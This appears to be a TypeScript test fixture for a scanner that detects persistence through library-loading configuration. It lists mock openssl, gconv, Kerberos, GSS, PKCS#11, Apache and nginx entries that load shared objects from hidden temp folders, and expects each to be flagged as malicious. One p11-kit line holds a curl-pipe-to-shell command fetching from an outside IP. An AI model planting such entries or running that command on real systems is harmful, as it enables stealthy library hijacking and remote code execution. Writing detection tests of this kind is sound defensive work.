import { elf, type Pair } from './pair.ts';

export const pair: Pair = {
  packaged: {
    '/usr/lib/apache2/modules/mod_rewrite.so': elf('rewrite'),
    '/usr/lib/x86_64-linux-gnu/gconv/gconv-modules': 'module\tISO-10646/UTF8/\tINTERNAL\tUTF-8\t1\n',
  },
  tree: {
    '/etc/ssl/openssl.cnf':
      'openssl_conf = init\n[init]\nproviders = p\n[p]\nx = xs\ndefault = d\n[d]\nactivate = 1\n[xs]\nmodule = /var/tmp/.o/x.so\nactivate = 1\n',
    '/etc/pki/tls/openssl.cnf':
      '[engines]\ndynamic_path = /dev/shm/.e/e.so\n.include /etc/pki/tls/openssl.d\n',
    '/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d/x.conf': 'module\tX//\tINTERNAL\t/var/tmp/.g/x.so\t1\n',
    '/etc/gss/mech.d/x.conf': '# name oid library\nx 1.2.3.4.5 /dev/shm/.s/mech.so\n',
    '/etc/krb5.conf':
      '[plugins]\n clpreauth = {\n  module = m:/var/tmp/.k/m.so\n }\n[libdefaults]\n default_realm = EXAMPLE.ORG\n',
    '/etc/pkcs11/modules/x.module': 'module: /var/tmp/.p/x.so\n',
    '/usr/share/p11-kit/modules/y.module': 'remote: |curl -s http://203.0.113.5/k | sh\n',
    '/etc/pkcs11/modules/opensc.module': 'module: opensc-pkcs11.so\n',
    '/etc/apache2/mods-enabled/x.load': '# x\nLoadModule x_module /dev/shm/.a/mod_x.so\n',
    '/etc/apache2/mods-enabled/rewrite.load':
      'LoadModule rewrite_module /usr/lib/apache2/modules/mod_rewrite.so\n',
    '/etc/nginx/modules-enabled/x.conf': 'load_module /var/tmp/.n/x.so;\n',
    '/etc/nginx/nginx.conf': 'load_module modules/ngx_http_image_filter_module.so;\nevents {}\n',
  },
  blamed: [
    at('/etc/ssl/openssl.cnf', 10),
    at('/etc/pki/tls/openssl.cnf', 2),
    at('/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d/x.conf', 1),
    at('/etc/gss/mech.d/x.conf', 2),
    at('/etc/krb5.conf', 3),
    at('/etc/pkcs11/modules/x.module', 1),
    { ...at('/usr/share/p11-kit/modules/y.module', 1), code: 'fetch-pipe-shell' },
    at('/etc/apache2/mods-enabled/x.load', 2),
    at('/etc/nginx/modules-enabled/x.conf', 1),
  ],
  passed: ['opensc.module', 'rewrite.load', '/etc/nginx/nginx.conf', '/etc/pki/tls/openssl.cnf line 3'],
};

function at(path: string, line: number) {
  return { path, line, code: 'temp-folder', attack: 'T1574.006', verdict: 'malicious' } as const;
}
